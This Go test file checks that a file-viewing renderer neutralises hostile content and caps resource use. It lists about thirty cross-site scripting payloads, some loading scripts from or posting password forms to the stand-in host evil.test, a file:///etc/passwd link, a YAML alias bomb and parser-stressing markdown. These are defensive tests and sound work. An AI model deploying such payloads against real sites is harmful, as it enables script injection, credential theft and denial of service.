package render

import (
	"cmp"
	"fmt"
	"strings"
	"testing"

	"vitrine/scripts/testkit/expect"
)

// hostile is markup that runs, loads or restyles where it is not sanitised.
var hostile = map[string]string{
	"a script":                      `<script>alert(1)</script>`,
	"a script in capitals":          `<ScRiPt src=//evil.test/x.js></sCrIpT>`,
	"a script without an end":       `<script>alert(1)`,
	"a script in a script":          `<scr<script>ipt>alert(1)</scr</script>ipt>`,
	"an image that fails":           `<img src=x onerror=alert(1)>`,
	"an attribute without a space":  `<img/src=x/onerror=alert(1)>`,
	"a body":                        `<body onload=alert(1)>`,
	"a drawing":                     `<svg onload=alert(1)><script>alert(2)</script></svg>`,
	"a drawing with foreign markup": `<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>`,
	"a drawing that animates":       `<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>`,
	"mathematics":                   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"markup in an attribute":        `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	"a style":                       `<style>body{display:none}</style><p style="position:fixed;inset:0">x</p>`,
	"a frame":                       `<iframe src="https://evil.test"></iframe><object data=x></object><embed src=x>`,
	"a form":                        `<form action=https://evil.test><input name=password><button>Send</button></form>`,
	"a base":                        `<base href=https://evil.test/><link rel=stylesheet href=//evil.test><meta http-equiv=refresh content=0>`,
	"a template":                    `<template><script>alert(1)</script></template>`,
	"a comment that ends early":     `<!--><img src=x onerror=alert(1)>-->`,
	"a declaration":                 `<!DOCTYPE html [<!ENTITY x "y">]><![CDATA[<script>alert(1)</script>]]>`,
	"the end of the page":           `</div></article></main></body></html><script>alert(1)</script>`,
	"a link that runs":              `<a href="javascript:alert(1)">x</a>`,
	"a link that runs, hidden":      `<a href=" &#1;java&#10;script&colon;alert(1)">x</a>`,
	"a link to data":                `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	"an image of data":              `<img src="data:image/svg+xml;base64,PHN2Zy8+">`,
	"a link for Visual Basic":       `<a href="vbscript:msgbox(1)">x</a><a href="file:///etc/passwd">y</a><a href="blob:x">z</a>`,
	"an image from elsewhere":       `<img src=https://evil.test/pixel.gif srcset="https://evil.test/2x 2x">`,
	"a film from elsewhere":         `<video src=https://evil.test/x poster=https://evil.test/y autoplay></video>`,
	"a name of the page":            `<div class="top notes" id="x y"><p class="v-large:target">x</p></div>`,
	"a null":                        "<scr\x00ipt>alert(1)</scr\x00ipt><img sr\x00c=x onerror=alert(1)>",
	"a details that toggles":        `<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>`,
}

func TestT88StrangersMarkupRunsNothing(t *testing.T) {
	for name, markup := range hostile {
		t.Run(name, func(t *testing.T) {
			for path, text := range samples(t, markup) {
				page := pageOf(t, sourceOf(path, text, "x"), Query{Sort: "1"})
				wantInert(t, page)
				wantNot(t, page, "evil.test/x.js\"", "<script", "onerror=\"", "javascript:alert(1)\"")
				if t.Failed() {
					t.Fatalf("%s: %s", path, page[strings.Index(page, "<main"):])
				}
			}
		})
	}
}

func TestT88NamesOfFilesAreText(t *testing.T) {
	name := `a"><img src=x onerror=alert(1)>/<script>alert(1)<.png`
	s := sourceOf(name, "x", `b"onmouseover="alert(1)`+".svg", "c'.md")
	wantInert(t, pageOf(t, s, Query{}))
	s.File.Path, s.Path = "", ""
	wantInert(t, pageOf(t, s, Query{}))
}

func TestT88ADrawingIsAnImageOnly(t *testing.T) {
	main := mainOf(t, sourceOf("a.svg", `<svg onload=alert(1)><script>alert(1)</script></svg>`), Query{})
	if main != `<p class="v-stage"><img src="/v/T/a.svg" alt="a.svg"></p>` {
		t.Error(main)
	}
}

func TestAnImageIsAboveTheWayToItsNeighbours(t *testing.T) {
	main := mainOf(t, sourceOf("b.png", "x", "a.png", "c.png"), Query{})
	want := `<p class="v-stage"><img src="/v/T/b.png" alt="b.png"></p><p class="v-steps">` +
		`<a href="/r/T/a.png">Previous: a.png</a> <a href="/r/T/c.png">Next: c.png</a></p>`
	if main != want {
		t.Errorf("%s, want %s", main, want)
	}
}

// What a page costs is bounded by counts: of bytes read, of values and rows written, of levels.
func TestT89HostileSizesAreCut(t *testing.T) {
	deep := 100_000
	for name, c := range map[string]struct {
		path, text string
		says       string
	}{
		"nested JSON":             {"a.json", strings.Repeat("[", deep) + strings.Repeat("]", deep), "Values below 64 levels are left out."},
		"nested JSON, not closed": {"a.json", strings.Repeat(`{"a":`, deep/2), "This file cannot be shown as data"},
		"nested YAML":             {"a.yaml", strings.Repeat("[", deep) + strings.Repeat("]", deep), "This file cannot be shown as data"},
		"YAML in blocks":          {"a.yaml", nestedYAML(300), "Values below 64 levels are left out."},
		"much JSON":               {"a.json", "[" + strings.Repeat("1,", 500_000) + "1]", "Only the first 60000 values are shown."},
		"a row of 20 MB":          {"a.csv", "a,b\n" + strings.Repeat("x", 20<<20) + ",1\n", "Cells above"},
		"a quotation of 20 MB":    {"a.csv", "a,b\n\"" + strings.Repeat("x,\n", 7<<20) + "\n", "Only the first 21 MB"},
		"a row of columns":        {"a.csv", strings.Repeat("a,", 1<<20) + "\n" + strings.Repeat("1,", 1<<20) + "\n", "Only the first 200 columns"},
		"a line of JSON":          {"a.jsonl", `{"a":"` + strings.Repeat("x", 5<<20) + `"}` + "\n", "Lines above"},
		"many rows":               {"a.csv", "a\n" + strings.Repeat("1\n", 50_000), "Only 5000 of 50000 rows"},
		"many lines":              {"a.txt", strings.Repeat("x\n", 100_000), "Only the first 20000 lines"},
		"a long line":             {"a.js", "var x = '" + strings.Repeat("x", 500_000) + "'\n", "Lines above"},
		"a long text":             {"a.txt", strings.Repeat(strings.Repeat("x", 999)+"\n", 3000), "Only the first 1"},
		"a large document":        {"a.md", strings.Repeat("# x\n\n", 600_000), "Documents above"},
		"a patch of one line":     {"a.patch", "--- a\n+++ b\n@@ -1 +1 @@\n-" + strings.Repeat("x", 1<<20), "Lines above"},
		"a patch that promises":   {"a.patch", "--- a\n+++ b\n@@ -1,999999999 +1,999999999 @@\n x\n", ""},
		"many cells": {"a.ipynb", `{"cells":[` + strings.Repeat(`{"cell_type":"raw","source":"x"},`, 3000) +
			`{"cell_type":"raw","source":"x"}]}`, "Only the first 2000 of 3001 cells"},
		"a notebook that is none": {"a.ipynb", `{"cells":{}}`, "it is no notebook"},
	} {
		t.Run(name, func(t *testing.T) {
			page := untimed(t, sourceOf(c.path, c.text))
			wantInert(t, page)
			if !strings.Contains(page, c.says) {
				t.Errorf("%q is missing in %.2000s", c.says, page[strings.Index(page, "<main"):])
			}
			if len(page) > 2*maxPage {
				t.Errorf("the page has %d bytes", len(page))
			}
		})
	}
}

// untimed returns the page of a source without the limit of time, so that a busy machine has the same one.
func untimed(t *testing.T, s Source) string {
	t.Helper()
	b, page := new(body), strings.Builder{}
	if err := views[s.view()].show(t.Context(), s, b, Query{}); err != nil {
		return pageOf(t, s, Query{}) // its text
	}
	expect.OK(t, cmp.Or(b.sanitise(), s.write(&page, b)))
	return page.String()
}

func nestedYAML(levels int) string {
	var b strings.Builder
	for i := range levels {
		b.WriteString(strings.Repeat(" ", i) + "a:\n")
	}
	return b.String()
}

func TestT89AliasesAreNotFollowed(t *testing.T) {
	bomb := "a0: &a0 [x, x]\n"
	for i := 1; i < 60; i++ {
		bomb += fmt.Sprintf("a%d: &a%d [*a%d, *a%d, *a%d]\n", i, i, i-1, i-1, i-1)
	}
	page := pageOf(t, sourceOf("a.yaml", bomb), Query{})
	if n := strings.Count(page, "v-leaf"); n > 400 {
		t.Errorf("%d values are shown", n)
	}
	wantHas(t, page, "*a58")
	front := pageOf(t, sourceOf("a.md", "---\n"+bomb+"---\nx"), Query{})
	if len(front) > 200_000 {
		t.Errorf("front matter takes %d bytes", len(front))
	}
}

// Markdown that takes other parsers long must stay linear here: the page has to come within the time of a view, which
// then is no fallback.
func TestT89NestedMarkdownIsRendered(t *testing.T) {
	for name, text := range map[string]string{
		"quotations":       strings.Repeat(">", 20_000) + "x",
		"lists":            strings.Repeat("- ", 5_000) + "x",
		"links":            strings.Repeat("[", 50_000) + "x" + strings.Repeat("](y)", 50_000),
		"images":           strings.Repeat("![", 50_000),
		"emphasis":         strings.Repeat("*a **a ", 50_000),
		"code spans":       strings.Repeat("`a``b", 50_000),
		"tables":           "|a|\n|-|\n" + strings.Repeat("|x", 50_000),
		"elements":         strings.Repeat("<div>", 50_000),
		"references":       strings.Repeat("[a]: b\n", 20_000) + strings.Repeat("[a]", 20_000),
		"footnotes":        strings.Repeat("[^1]", 20_000) + "\n\n[^1]: x",
		"equal headings":   strings.Repeat("# a\n", 50_000),
		"unclosed comment": strings.Repeat("<!-- ", 50_000),
	} {
		t.Run(name, func(t *testing.T) {
			wantInert(t, pageOf(t, sourceOf("a.md", text), Query{}))
		})
	}
}
